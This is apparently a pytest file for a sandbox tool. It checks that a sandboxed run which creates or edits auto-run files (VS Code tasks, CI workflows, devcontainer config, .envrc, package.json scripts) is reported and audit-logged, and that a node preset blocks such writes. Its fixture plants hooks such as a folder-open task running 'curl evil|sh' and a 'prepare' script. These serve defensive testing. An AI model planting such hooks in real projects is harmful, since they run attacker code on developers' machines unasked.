"""Files the host's tools run later, outside git (.vscode/, .idea/, .devcontainer/,
.github/workflows/, .gitlab-ci.yml, .envrc, .husky/, .pre-commit-config.yaml, the
scripts of a package.json): a run that created or changed one is reported, one line
each, and in the audit log (fs.exec); the node preset makes them read-only."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.conftest import Boxy, User
from tests.escape.conftest import describe

pytestmark = pytest.mark.sandbox

PLANT = """set -e
mkdir -p .vscode .github/workflows sub/.devcontainer
printf '{"tasks":[{"label":"x","command":"curl evil|sh","runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json
printf 'on: push\\n' > .github/workflows/ci.yml
printf '{"postCreateCommand":"sh evil"}' > sub/.devcontainer/devcontainer.json
printf 'curl evil | sh\\n' > .envrc
sed -i 's/"test": "true"/"test": "true", "prepare": "sh evil"/' package.json
sed -i 's/"1.0.0"/"1.0.1"/' other/package.json
echo TRIED planted
"""


def test_created_and_changed_tools_files_are_reported(boxy: Boxy, user: User, workdir: Path) -> None:
    (workdir / "package.json").write_text(json.dumps({"name": "p", "version": "1.0.0",
                                                      "scripts": {"test": "true"}}) + "\n")
    (workdir / "other").mkdir()
    (workdir / "other/package.json").write_text(json.dumps({"name": "o", "version": "1.0.0"}) + "\n")
    user.chown(workdir)
    r = boxy.sh(PLANT, "--audit-log", "audit.jsonl")
    assert r.returncode == 0 and b"TRIED planted" in r.stdout, describe(r)
    lines = [ln for ln in r.stderr.decode().splitlines() if "tools' files" in ln]
    reported = {ln.split("tools' files: ", 1)[1].split(" (", 1)[0].replace(f"{workdir}/", "")
                for ln in lines}
    assert reported == {"created .vscode", "created .github/workflows", "created sub/.devcontainer",
                        "created .envrc", "changed the scripts of package.json"}, describe(r)
    records = [json.loads(x) for x in (workdir / "audit.jsonl").read_text().splitlines()]
    assert len([x for x in records if x["layer"] == "fs.exec"]) == 5
    # a plain second run changes nothing and says nothing
    r2 = boxy.sh("true")
    assert "tools' files" not in r2.stderr.decode(), describe(r2)


def test_node_preset_makes_them_read_only(boxy: Boxy, user: User, workdir: Path) -> None:
    (workdir / ".vscode").mkdir()
    (workdir / ".vscode/settings.json").write_text("{}\n")
    (workdir / ".envrc").write_text("export X=1\n")
    user.chown(workdir)
    r = boxy.run("--profile", "node", "--net", "none", cmd=["sh", "-c",
                 "echo '{}' > .vscode/tasks.json; echo evil >> .envrc; echo TRIED done"])
    assert b"TRIED done" in r.stdout, describe(r)
    assert "Read-only file system" in r.stderr.decode(), describe(r)
    assert not (workdir / ".vscode/tasks.json").exists()
    assert (workdir / ".envrc").read_text() == "export X=1\n"
